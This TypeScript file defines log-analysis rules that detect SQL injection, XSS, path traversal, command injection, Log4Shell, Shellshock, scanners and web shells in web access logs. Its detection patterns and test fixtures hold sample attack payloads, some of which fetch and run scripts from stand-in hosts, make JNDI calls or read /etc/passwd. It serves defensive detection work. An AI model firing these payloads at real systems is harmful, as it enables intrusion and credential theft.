import type { LogRule } from './rule-meta.js';
import { queryParams } from './web-request.js';

/**
 * Rules over web access logs. Each pattern rule reads the normalised request
 * (see normalizeForMatch): decoded, lower case. Patterns need the syntax of
 * an attack (a quote before OR, a separator before a command, `<script`),
 * not a word: /blog/tags/shell and /search?q=select+a+theme stay quiet.
 */
export interface WebView {
  method: string;
  /** Decoded, lower case: path and query. */
  target: string;
  /** Decoded, lower case: the path alone. */
  path: string;
  agent: string;
  referer: string;
  status: number | null;
  /** The target as logged. */
  rawTarget: string;
}

export interface WebPatternRule extends LogRule {
  test(v: WebView): boolean;
}

const OWASP = (page: string) => `https://owasp.org/www-community/attacks/${page}`;
const T1190 = 'https://attack.mitre.org/techniques/T1190/';

const line = (target: string, opts: { method?: string; status?: number; agent?: string; referer?: string; client?: string } = {}) =>
  `${opts.client ?? '203.0.113.45'} - - [23/Nov/2026:10:00:01 +0000] "${opts.method ?? 'GET'} ${target} HTTP/1.1" ${opts.status ?? 200} 512 "${opts.referer ?? '-'}" "${opts.agent ?? 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'}"\n`;

/** Benign requests every pattern rule must leave alone. */
const BENIGN = [
  line('/blog/tags/shell'),
  line('/search?q=select+a+theme'),
  line('/products?id=10&cat=2&sort=price'),
  line('/search?q=how+to+use+the+cat+command'),
  line('/static/app.js?v=3.2.1'),
  line('/uploads/2026/11/photo.jpg'),
  line('/index.php?option=com_content&view=article&id=5'),
  line('/api/v1/users;jsessionid=0123ABCD'),
  line('/search?q=union+station+tickets'),
  line('/docs/one=two'),
];

const SQLI = new RegExp(
  [
    String.raw`\bunion(?:\s+(?:all|distinct))?\s+select\b`,
    String.raw`['"\x60)]\s*(?:or|and|xor|\|\||&&)\s*\(?\s*['"]?[\w@.]+['"]?\s*(?:=|<>|!=|<|>|\blike\b|\bis\b)`,
    String.raw`['"\x60)]\s*(?:or|and)\s+(?:true|false|not)\b`,
    String.raw`\b(?:sleep|pg_sleep|benchmark|extractvalue|updatexml|load_file|sys_eval|xp_cmdshell|dbms_pipe\.receive_message|utl_inaddr\.get_host_address)\s*\(`,
    String.raw`\bwaitfor\s+delay\s*['"]`,
    String.raw`\binformation_schema\b`,
    String.raw`\binto\s+(?:out|dump)file\b`,
    String.raw`['"\x60]\s*(?:;|--|#|/\*)`,
    String.raw`;\s*(?:drop|truncate|delete|insert|update|shutdown)\s+\w`,
    String.raw`@@(?:version|datadir|hostname)\b`,
    String.raw`\b(?:char|concat|group_concat|concat_ws)\s*\(\s*(?:0x[0-9a-f]+|\d+)\s*,`,
    String.raw`\border\s+by\s+\d+\s*(?:--|#)`,
  ].join('|'),
);

const XSS = new RegExp(
  [
    String.raw`<\s*/?\s*script\b`,
    String.raw`<[a-z]+\b[^>]*?[\s/"']on[a-z]{3,20}\s*=`,
    String.raw`(?:^|[\s"'/;<>])on(?:error|load|mouseover|mouseenter|focus|focusin|click|toggle|animationstart|pointerover|begin|pageshow|wheel|auxclick|dblclick|keydown|keyup|input|submit|blur|change|resize|scroll|unload|hashchange|message|popstate|transitionend)\s*=`,
    String.raw`\b(?:java|vb)script\s*:(?=\S)`,
    String.raw`\bdata:text/html`,
    String.raw`\b(?:alert|prompt|confirm)(?:\(|\x60)`,
    String.raw`\bdocument\.(?:cookie|domain)\b`,
    String.raw`\bstring\.fromcharcode\s*\(`,
  ].join('|'),
);

const TRAVERSAL = new RegExp(
  [
    String.raw`(?:\.\.[/\\]){2}`,
    String.raw`\.\.[/\\](?:[^?#]*?[/\\])?(?:etc|proc|windows|winnt|boot|root|var|usr|home|web-inf)\b`,
    String.raw`/etc/(?:passwd|shadow|group|hosts|issue|crontab|sudoers)\b`,
    String.raw`/proc/self/(?:environ|cmdline|fd|maps|status)\b`,
    String.raw`\b(?:boot|win)\.ini\b`,
    String.raw`web-inf/web\.xml`,
    String.raw`\b(?:php|phar|zip|expect|glob|file)://`,
    String.raw`\bdata://text/`,
    String.raw`\x00\.[a-z0-9]{2,5}\b|\.[a-z0-9]{2,8}\x00$`,
    String.raw`\bc:\\windows\b`,
    String.raw`/\.ssh/(?:id_[a-z0-9]+|authorized_keys)\b`,
  ].join('|'),
);

const COMMANDS = 'id|whoami|uname|cat|ls|pwd|wget|curl|nc|ncat|netcat|bash|sh|zsh|dash|python[23]?|perl|php|ruby|busybox|chmod|rm|echo|ping|nslookup|sleep|tftp|powershell|cmd(?:\\.exe)?|base64|env|ifconfig|telnet';
const COMMAND_INJECTION = new RegExp(
  [
    String.raw`(?:[;|\x60\n]|\$\(|&&|\|\|)\s*(?:/(?:usr/)?bin/)?(?:${COMMANDS})(?=$|[\s;|&\x60)<>'"])`,
    String.raw`\$\{ifs\}|\$ifs\$`,
    String.raw`/bin/(?:ba|da|z)?sh\b`,
    String.raw`\bcmd(?:\.exe)?\s+/c\b`,
    String.raw`\bnc\s+-[a-z]*e\b`,
  ].join('|'),
);

/** Log4j lookups that spell a word out: ${lower:j}, ${::-n}, ${env:X:-d}, ${date:'i'}. */
const LOOKUP = /\$\{(?!jndi:)([^${}]*)\}/g;
const JNDI = /\$\{\s*jndi\s*:/;

function log4jExpanded(s: string): string {
  for (let i = 0; i < 10 && s.includes('${'); i++) {
    const next = s.replace(LOOKUP, (_, inner: string) => {
      const dash = inner.lastIndexOf(':-');
      if (dash !== -1) return inner.slice(dash + 2);
      const colon = inner.indexOf(':');
      return (colon === -1 ? inner : inner.slice(colon + 1)).replace(/^'(.*)'$/, '$1');
    });
    if (next === s) break;
    s = next;
  }
  return s;
}

const SHELLSHOCK = /\(\s*\)\s*\{/;

const SCANNERS =
  /\b(?:sqlmap|nikto|nuclei|nmap scripting engine|nmap|masscan|zgrab|gobuster|dirbuster|dirb|wpscan|acunetix|netsparker|nessus|openvas|w3af|whatweb|wfuzz|fuzz faster u fool|feroxbuster|jaeles|arachni|skipfish|commix|xsstrike|joomscan|droopescan|l9explore|l9tcpid|zmeu|morfeus|struts-pwn|havij)\b/;

export const WEB_SQLI: WebPatternRule = {
  id: 'logs.web.sqli',
  title: 'SQL injection attempts in web requests',
  severity: 'medium',
  attack: ['T1190'],
  description:
    'Requests from one address carried SQL injection syntax (UNION SELECT, quote-OR-equals, time delays, stacked queries, ' +
    'information_schema) after URL decoding, double encoding included. Most are scans; what matters is whether any succeeded: look ' +
    'at the statuses and sizes (evidence statuses; a 200 with an unusual size, or a 500, on a dynamic page), the database logs at the ' +
    'same time, and the application code behind the paths hit. Block the address if it keeps going.',
  falsepositives: ['Search pages where users type SQL', 'Security testing that was agreed'],
  references: [OWASP('SQL_Injection'), T1190],
  cases: {
    category: 'web',
    fires: [
      line("/item.php?id=1'+UNION+SELECT+username,password+FROM+users--+-"),
      line("/login?user=admin'%20or%20'1'%3D'1"),
      line('/product?id=1%2520AND%2520SLEEP(5)'),
      line("/search?q=x')/**/union/**/all/**/select/**/null,@@version--"),
      line('/list?sort=1;WAITFOR%20DELAY%20%270:0:5%27'),
    ],
    quiet: BENIGN,
  },
  test: (v) => SQLI.test(v.target.includes('/*') ? v.target.replace(/\/\*.*?\*\//g, ' ') : v.target),
};

export const WEB_XSS: WebPatternRule = {
  id: 'logs.web.xss',
  title: 'Cross-site scripting attempts in web requests',
  severity: 'low',
  attack: ['T1190'],
  description:
    'Requests from one address carried script injection (<script>, event handlers such as onerror=, javascript: URLs, alert() ' +
    'probes) after decoding. Reflected XSS targets the site\'s users rather than the host; check whether the pages echo the ' +
    'parameter back and whether stored content (comments, profiles) now holds the payload.',
  falsepositives: ['Pages that legitimately pass HTML in parameters'],
  references: [OWASP('xss/'), T1190],
  cases: {
    category: 'web',
    fires: [
      line('/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
      line('/profile?name=%22%20onmouseover%3D%22alert(1)'),
      line('/page?next=javascript:alert(1)'),
      line('/q?x=%253Csvg%252Fonload%253Dalert%25281%2529%253E'),
    ],
    quiet: [...BENIGN, line('/blog/javascript-tips'), line('/search?q=red+alert+movie')],
  },
  test: (v) => XSS.test(v.target),
};

export const WEB_TRAVERSAL: WebPatternRule = {
  id: 'logs.web.path-traversal',
  title: 'Path traversal or local file inclusion attempts',
  severity: 'medium',
  attack: ['T1190'],
  description:
    'Requests from one address tried to climb out of the web root (../../, encoded or double encoded, overlong %c0%af) or to ' +
    'include local files (/etc/passwd, /proc/self/environ, php://filter, a NUL byte). A 200 with the size of the file asked for means ' +
    'it was read: then treat every secret readable by the web server user (configs, keys, .env) as stolen and rotate it.',
  falsepositives: ['Broken clients that do not normalise paths'],
  references: [OWASP('Path_Traversal'), T1190],
  cases: {
    category: 'web',
    fires: [
      line('/download?file=../../../../etc/passwd'),
      line('/static/%252e%252e%252f%252e%252e%252fetc%252fshadow'),
      line('/index.php?page=php://filter/convert.base64-encode/resource=config'),
      line('/view?f=..%c0%af..%c0%afetc/hosts'),
      line('/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh'),
      line('/read?file=/proc/self/environ%00'),
      line('/show.php?img=secret.conf%00.jpg'),
    ],
    quiet: [...BENIGN, line('/docs/../guide.html'), '203.0.113.49 - - [23/Nov/2026:03:06:00 +0000] "\\x16\\x03\\x01\\x00\\xF1\\x01\\x00\\x00\\xED\\x03\\x03" 400 157 "-" "-"\n'],
  },
  test: (v) => TRAVERSAL.test(v.target),
};

export const WEB_COMMAND_INJECTION: WebPatternRule = {
  id: 'logs.web.command-injection',
  title: 'OS command injection attempts in web requests',
  severity: 'medium',
  attack: ['T1190', 'T1059.004'],
  description:
    'Requests from one address carried a shell command after a separator (;id, |cat, `whoami`, $(wget …), %0a) or a shell path, ' +
    'after decoding. Routers, cameras and admin panels that pass parameters to a shell are the usual targets. If any answered 200, ' +
    'look for what the command would have fetched or started: new files in /tmp and the web root, processes of the web server user, ' +
    'outbound connections.',
  falsepositives: ['Documentation sites with shell snippets in URLs'],
  references: [OWASP('Command_Injection'), 'https://attack.mitre.org/techniques/T1059/004/'],
  cases: {
    category: 'web',
    fires: [
      line('/ping.cgi?host=127.0.0.1;id'),
      line('/api/diag?ip=8.8.8.8%7Ccat%20/etc/passwd'),
      line('/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1'),
      line('/x?c=%24(curl%20http%3A%2F%2F198.51.100.7%2Fa.sh)'),
      line('/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws'),
    ],
    quiet: [...BENIGN, line('/search?q=cats;dogs'), line('/a|b')],
  },
  test: (v) => COMMAND_INJECTION.test(v.target),
};

export const WEB_LOG4SHELL: WebPatternRule = {
  id: 'logs.web.log4shell',
  title: 'Log4Shell (CVE-2021-44228) probes',
  severity: 'medium',
  attack: ['T1190'],
  description:
    'A request carried a ${jndi:…} lookup, also spelled out with nested lookups (${${lower:j}ndi:…}, ${::-j}) or URL encoded, in ' +
    'the path, the User-Agent or the Referer. It only works against Java applications with a vulnerable Log4j 2; if the host runs ' +
    'Java, check its Log4j version and look for outbound LDAP/RMI/DNS to the address in the payload at the same time.',
  falsepositives: ['Agreed vulnerability scans'],
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2021-44228', T1190],
  cases: {
    category: 'web',
    fires: [
      line('/?x=${jndi:ldap://198.51.100.7:1389/a}'),
      line('/', { agent: '${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://198.51.100.7/x}' }),
      line('/', { referer: '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}' }),
      line('/%24%7Bjndi%3Adns%3A%2F%2Fx.example%2Fa%7D'),
      line('/', { agent: '${${env:NOPE:-j}ndi${env:NOPE:-:}${date:\'l\'}dap://x.example/a}' }),
    ],
    quiet: [...BENIGN, line('/template?x=${name}')],
  },
  test: (v) => [v.target, v.agent, v.referer].some((s) => s.includes('${') && JNDI.test(log4jExpanded(s))),
};

export const WEB_SHELLSHOCK: WebPatternRule = {
  id: 'logs.web.shellshock',
  title: 'Shellshock (CVE-2014-6271) probes',
  severity: 'medium',
  attack: ['T1190', 'T1059.004'],
  description:
    'A request carried a bash function definition, "() {", in the User-Agent, Referer or path: Shellshock, which runs commands ' +
    'through CGI scripts on an unpatched bash. Check whether the host serves CGI (cgi-bin) with bash, its bash version, and what ' +
    'the command after the definition would have done.',
  falsepositives: ['None known in access logs'],
  references: ['https://nvd.nist.gov/vuln/detail/CVE-2014-6271', T1190],
  cases: {
    category: 'web',
    fires: [
      line('/cgi-bin/status', { agent: '() { :; }; echo; /bin/bash -c \'cat /etc/passwd\'' }),
      line('/cgi-bin/test.cgi', { referer: '() { _; } >_[$($())] { echo hi; }' }),
    ],
    quiet: [...BENIGN, line('/', { agent: 'curl/8.5.0' })],
  },
  test: (v) => SHELLSHOCK.test(v.agent) || SHELLSHOCK.test(v.referer) || SHELLSHOCK.test(v.target),
};

export const WEB_SCANNER: WebPatternRule = {
  id: 'logs.web.scanner',
  title: 'Vulnerability scanner by User-Agent',
  severity: 'low',
  attack: ['T1595.002', 'T1595.003'],
  description:
    'Requests from one address announced a scanning tool in the User-Agent (sqlmap, Nikto, Nuclei, Nmap, WPScan, gobuster, ffuf…). ' +
    'Scanners seldom hide, so this is the careless part of reconnaissance; check whether the same address also appears in the ' +
    'injection or web-shell findings, and whether it was an agreed test.',
  falsepositives: ['Scans by your own security team or an external attack-surface service'],
  references: ['https://attack.mitre.org/techniques/T1595/002/'],
  cases: {
    category: 'web',
    fires: [
      line('/', { agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
      line('/', { agent: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' }),
      line('/', { agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei' }),
      line('/', { agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' }),
      line('/', { agent: 'Fuzz Faster U Fool v2.1.0-dev' }),
    ],
    quiet: [...BENIGN, line('/', { agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' }), line('/unmapped', { agent: 'curl/8.5.0' })],
  },
  test: (v) => SCANNERS.test(v.agent),
};

/** Directories users upload into; a script answering from one is a web shell until shown otherwise. */
const UPLOAD_SCRIPT =
  /\/(?:wp-content\/uploads|uploads?|uploaded|userfiles|user_files|files|attachments?|images?|img|media|avatars?|tmp|temp|cache)\/(?:[^?#]*\/)?[^/?#]+\.(?:php[3-8]?|phtml|phar|pht|jspx?|aspx?|ashx|cgi|pl|py|sh)$/;
/** Names of well-known web shells, wherever they answer. */
const KNOWN_SHELL = /\/(?:c99|c100|r57|wso\d*|b374k|alfa[a-z0-9]*|webshell|wshell|sh3ll|indoxploit|phpspy|cmd|shell)\.(?:php\d?|phtml|jspx?|aspx?)$/;
const COMMAND_PARAM = new Set(['cmd', 'command', 'exec', 'execute', 'shell', 'cmdline', 'run', 'system', 'eval', 'passthru', 'c']);
const COMMAND_VALUE = new RegExp(`^(?:${COMMANDS})(?:\\s|$)|^(?:ls|dir)\\s+-|[;|]\\s*(?:${COMMANDS})\\b`);

export const isWebShellPath = (path: string) => UPLOAD_SCRIPT.test(path) || KNOWN_SHELL.test(path);

/** A parameter that hands the script a command: cmd=, exec=… with a value, or any value that is a shell command. */
export function commandParam(rawTarget: string): string | null {
  for (const p of queryParams(rawTarget)) {
    if (p.value === '') continue;
    if ((COMMAND_PARAM.has(p.name) && (p.name !== 'c' || COMMAND_VALUE.test(p.value))) || COMMAND_VALUE.test(p.value)) return `${p.name}=${p.value}`;
  }
  return null;
}

export const WEB_SHELL: LogRule = {
  id: 'logs.web.webshell',
  title: 'Script answering from an upload directory (possible web shell)',
  severity: 'high',
  attack: ['T1505.003'],
  description:
    'A script (.php, .jsp, .aspx, .cgi…) under an upload or media directory, or with a well-known web-shell name, answered 2xx. ' +
    'Upload directories hold images and documents; a script there that runs is how an upload flaw becomes code execution. Open the ' +
    'file (it is on the host under the web root), check its owner and mtime against the upload that made it, and look at the same ' +
    'address\'s other requests. Quarantine the file before the attacker comes back.',
  falsepositives: ['Applications that really keep scripts under a directory named files, images or cache'],
  references: ['https://attack.mitre.org/techniques/T1505/003/', 'https://www.cisa.gov/news-events/cybersecurity-advisories/aa20-205a'],
  cases: {
    category: 'web',
    fires: [
      line('/wp-content/uploads/2026/11/wp-conf.php', { method: 'POST' }),
      line('/images/avatars/x.phtml'),
      line('/c99.php'),
    ],
    quiet: [...BENIGN, line('/uploads/shell.php', { status: 404 }), line('/wp-login.php', { method: 'POST' }), line('/uploads/report.pdf')],
  },
};

export const WEB_SHELL_COMMAND: LogRule = {
  id: 'logs.web.webshell-command',
  title: 'Web shell given a command',
  severity: 'critical',
  attack: ['T1505.003', 'T1059.004'],
  description:
    'A script under an upload directory (or with a web-shell name) answered 2xx to a request with a command in its parameters ' +
    '(cmd=id, exec=uname -a…), often right after the same address POSTed the file up (evidence postedBefore). Commands ran on this ' +
    'host as the web server user. Quarantine the script, list every request to it (evidence commands), look for what those commands ' +
    'left (files in /tmp, cron, keys, processes of the web server user, outbound connections) and find the upload flaw.',
  falsepositives: ['An administration script kept under an upload directory that takes a command parameter'],
  references: ['https://attack.mitre.org/techniques/T1505/003/'],
  cases: {
    category: 'web',
    fires: [
      line('/upload.php', { method: 'POST' }) + line('/uploads/avatar.php?cmd=id'),
      line('/wp-content/uploads/2026/11/x.php?exec=uname%20-a'),
      line('/files/s.jsp?c=cat+/etc/passwd'),
    ],
    quiet: [...BENIGN, line('/uploads/avatar.php?cmd=id', { status: 404 }), line('/index.php?c=3'), line('/uploads/photo.jpg?cmd=id')],
  },
};

export const WEB_PATTERN_RULES: readonly WebPatternRule[] = [WEB_SQLI, WEB_XSS, WEB_TRAVERSAL, WEB_COMMAND_INJECTION, WEB_LOG4SHELL, WEB_SHELLSHOCK, WEB_SCANNER];
export const WEB_RULES: readonly LogRule[] = [...WEB_PATTERN_RULES, WEB_SHELL, WEB_SHELL_COMMAND];
